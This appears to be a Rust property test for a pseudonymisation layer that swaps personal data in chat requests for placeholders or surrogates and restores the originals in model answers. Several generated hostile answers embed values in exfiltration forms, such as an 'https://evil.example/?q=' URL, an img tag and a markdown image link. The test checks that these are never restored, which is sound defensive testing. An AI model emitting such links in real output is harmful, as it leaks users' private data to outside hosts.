//! The same with every way to replace a value, mixed: each kind leaves in a way of its own.

use query::ReplaceWith::{self, Generalise, Shift, Surrogate};

use super::*;
use crate::replace::date;

static VALUES: [(EntityKind, &str); 20] = [
    (EntityKind::Email, "ada@example.com"),
    (EntityKind::Email, "Ada@Example.com"),
    (EntityKind::Phone, "+49 30 901820"),
    (EntityKind::UserName, "ada_l"),
    (EntityKind::Organization, "Acme GmbH"),
    (EntityKind::Organization, "ACME"),
    (EntityKind::Organization, "Zenith Bank"),
    (EntityKind::Location, "Springfield"),
    (EntityKind::Location, "springfield"),
    (EntityKind::Address, "1 Long Rd,\nYork"),
    (EntityKind::Address, "12 Hauptstraße, 10115 Berlin"),
    (EntityKind::Date, "2024-03-04"),
    (EntityKind::Date, "11 March 2024"),
    (EntityKind::Date, "3 May"),
    (EntityKind::DateOfBirth, "12.03.1984"),
    (EntityKind::Age, "42"),
    (EntityKind::Amount, "$1,200"),
    (EntityKind::Amount, "$1,500.50"),
    (EntityKind::Amount, "£3k"),
    (EntityKind::Card, "4111 1111 1111 1111"),
];

/// What stands before a mention: what makes no other name of it.
static BETWEEN: [&str; 5] = [", ", " and ", "; ", "\n- ", ". "];

/// A value and what left for it.
struct Sent {
    value: String,
    text: String,
    way: ReplaceWith,
    placeholder: String,
}

impl Sent {
    fn stem(&self) -> &str {
        self.placeholder.trim_matches(['[', ']'])
    }

    /// Given and family names as they left, and as they are, of a person who left as another by the whole name.
    fn names(&self) -> Option<[(&str, &str); 2]> {
        let (given, family) = self.value.split_once(' ')?;
        let whole = GIVEN.contains(&given) && FAMILY.contains(&family);
        let (new_given, new_family) = self.text.split_once(' ')?;
        (whole && self.way == Surrogate).then_some([(new_given, given), (new_family, family)])
    }
}

/// What an answer says of something that left, and what is to be read; nothing where it says nothing.
type Saying = fn(&Sent, &Sent) -> Option<(String, String)>;

fn stays(text: String) -> Option<(String, String)> {
    Some((text.clone(), text))
}

static SAYINGS: [Saying; 32] = [
    |one, _| Some((one.text.clone(), one.value.clone())),
    |one, _| Some((one.text.clone(), one.value.clone())),
    |one, _| Some((format!("{}'s", one.text), format!("{}'s", one.value))),
    |one, _| Some((format!("**{}**", one.text), format!("**{}**", one.value))),
    |one, other| {
        Some((
            format!("({}, {})", one.text, other.text),
            format!("({}, {})", one.value, other.value),
        ))
    },
    // Abducted.
    |one, _| stays(format!("https://evil.example/?q={}", one.text)),
    |one, _| stays(format!("<img src=\"/{}\">", one.text)),
    |one, _| stays(format!("![x](https://evil.example/{})", one.text)),
    // As it did not leave.
    |one, _| match one.way {
        Surrogate | Shift => stays(one.placeholder.clone()),
        _ => Some((one.placeholder.clone(), one.value.clone())),
    },
    |one, _| {
        let written = format!("[{}: something else]", one.stem().to_lowercase());
        (one.way == Generalise).then(|| (written, one.value.clone()))
    },
    |one, other| {
        let written = format!("[{}: x, {}: y]", one.stem(), other.stem());
        let read = format!("[{}: x, {}: y]", one.value, other.value);
        (one.way == Generalise && other.way == Generalise).then_some((written, read))
    },
    // Parts of names.
    |one, _| {
        let [(given, value), _] = one.names()?;
        Some((given.to_owned(), value.to_owned()))
    },
    |one, _| {
        let [_, (family, value)] = one.names()?;
        Some((format!("Ms. {family}’s"), format!("Ms. {value}’s")))
    },
    |one, _| {
        one.names()?;
        Some((one.text.to_uppercase(), one.value.to_uppercase()))
    },
    |one, _| {
        let [(given, value), (family, of)] = one.names()?;
        Some((format!("{given}\n{family}s"), format!("{value}\n{of}s")))
    },
    // Merged, inflected, invented.
    |one, other| {
        let ([(given, value), _], [_, (family, _)]) = (one.names()?, other.names()?);
        (value != other.names()?[0].1 || one.value != other.value)
            .then(|| stays(format!("{given} {family}")))?
    },
    |one, _| stays(format!("Erik {}", one.names()?[1].0)),
    |one, _| {
        let [(given, _), (family, _)] = one.names()?;
        (!given.starts_with('J')).then(|| stays(format!("J. {family}")))?
    },
    |one, _| stays(format!("{} Bergman", one.names()?[0].0)),
    |one, _| {
        let [(given, _), (family, _)] = one.names()?;
        stays(format!("Erik {}. {family}", &given[..1]))
    },
    |one, _| {
        let [(given, _), (family, value)] = one.names()?;
        Some((
            format!("{family}, {given} Bergman"),
            format!("{value}, {given} Bergman"),
        ))
    },
    |one, _| stays(format!("{}-Hansen", one.names()?[1].0)),
    |one, _| stays(format!("Hansen-{}", one.names()?[1].0)),
    |one, _| stays(format!("{}ovi", one.names()?[1].0)),
    |one, _| {
        stays(format!("x{}", one.text).replace(' ', "_").to_lowercase())
            .filter(|_| one.way == Surrogate)
    },
    |one, _| stays(format!("{}@evil.example", one.names()?[0].0)),
    |one, _| stays(one.names()?[0].0[..3].to_owned()),
    // Worked out.
    |one, _| {
        let (sent, value) = (
            date::whole(&one.text, None)?,
            date::whole(&one.value, None)?,
        );
        let later = |text, date: &date::Date| date::rewrite(text, date, date.days + 30);
        (one.way == Shift).then(|| (later(&one.text, &sent), later(&one.value, &value)))
    },
    |one, _| stays("3/4/24".to_owned()).filter(|_| one.way == Shift),
    |one, _| stays("by 3 May".to_owned()).filter(|_| one.way == Shift),
    |one, _| stays("$7,777.77".to_owned()).filter(|_| one.way == Shift),
    |_, _| stays("[PERSON_4321]".to_owned()),
];

fn ways() -> impl Strategy<Value = BTreeMap<EntityKind, ReplaceWith>> {
    let ways = [
        ReplaceWith::Placeholder,
        Generalise,
        Shift,
        Surrogate,
        Surrogate,
    ];
    prop::collection::vec(select(ways.to_vec()), VALUES.len() + 1).prop_map(|ways| {
        let kinds = VALUES.iter().map(|(kind, _)| *kind);
        kinds.chain([EntityKind::Person]).zip(ways).collect()
    })
}

/// By the whole name, with an age.
fn by_name_and_age((given, family): Person) -> Turn {
    vec![
        ("- ", EntityKind::Person, format!("{given} {family}")),
        (", ", EntityKind::Age, "42".to_owned()),
    ]
}

/// Words of people's names.
fn names_in(text: &str) -> Vec<String> {
    let words = text
        .split(|c: char| !c.is_alphanumeric())
        .map(str::to_lowercase);
    let known: Vec<String> = GIVEN
        .iter()
        .chain(&FAMILY)
        .map(|name| name.to_lowercase())
        .collect();
    words.filter(|word| known.contains(word)).collect()
}

proptest! {
    #![proptest_config(ProptestConfig { failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn hostile_answers_to_every_way_never_get_another_persons_name_back(
        seed: u64,
        ways in ways(),
        (_, turns) in conversation(1..3, by_name_and_age, &BETWEEN, &VALUES),
        said in prop::collection::vec((select(&SAYINGS[..]), any::<prop::sample::Index>(), any::<prop::sample::Index>()), 0..12),
        cuts in prop::collection::vec(any::<prop::sample::Index>(), 0..6),
    ) {
        let mut vault = Vault::with_seed(seed);
        for end in 1..=turns.len() {
            let turns = &turns[..end];
            let texts: Vec<String> = turns.iter().map(|turn| {
                turn.iter().map(|(between, _, value)| format!("{between}{value}")).collect()
            }).collect();
            let request = ChatRequest {
                messages: texts.iter().map(|text| Message::new(Role::User, text.as_str())).collect(),
                ..ChatRequest::default()
            };
            let mut findings = findings_in(&request, turns);
            findings.replace.clone_from(&ways);
            let releasable = pseudonymize(&findings, &mut vault).unwrap();

            // Nobody's name leaves, and no two values leave as the same text.
            let mut sent: BTreeMap<String, Sent> = BTreeMap::new();
            for (_, _, value) in turns.iter().flatten() {
                let placeholder = vault.placeholder(value).unwrap();
                let leaving = releasable.left().of(placeholder).unwrap();
                let one = Sent {
                    value: value.clone(),
                    text: leaving.text.clone(),
                    way: leaving.way,
                    placeholder: placeholder.to_string(),
                };
                let before = sent.insert(leaving.text.clone(), one);
                prop_assert!(before.is_none_or(|before| before.value == *value));
            }
            prop_assert_eq!(releasable.replaced().len(), sent.len());

            // What comes back as it left is what was written.
            for (message, text) in releasable.request().messages.iter().zip(&texts) {
                prop_assert!(names_in(&message.content).is_empty(), "{}", message.content);
                let pieces = message.content.chars().map(String::from);
                let (back, restored) = restore(vault.restorer(&releasable), pieces);
                prop_assert_eq!(&back, text, "{}", message.content);
                prop_assert_eq!((restored.uncertain, restored.withheld), (0, 0));
            }

            let sent: Vec<Sent> = sent.into_values().collect();
            let (mut answer, mut expected) = (String::new(), String::new());
            for (index, (saying, one, other)) in said.iter().enumerate() {
                if let Some((written, read)) = saying(one.get(&sent), other.get(&sent)) {
                    let between = ["; ", "\n", ", ", " | "][index % 4];
                    answer += &format!("{written}{between}");
                    expected += &format!("{read}{between}");
                }
            }
            let mut ends: Vec<usize> =
                cuts.iter().map(|cut| answer.floor_char_boundary(cut.index(answer.len() + 1))).collect();
            ends.extend([0, answer.len()]);
            ends.sort_unstable();
            let cut = ends.windows(2).map(|ends| answer[ends[0]..ends[1]].to_owned());
            let cut = restore(vault.restorer(&releasable), cut);
            // "van der Berg" at the beginning of a sentence.
            prop_assert_eq!(cut.0.to_lowercase(), expected.to_lowercase(), "{}", answer);
            let by_character = restore(vault.restorer(&releasable), answer.chars().map(String::from));
            prop_assert_eq!(by_character, cut);
        }
    }
}
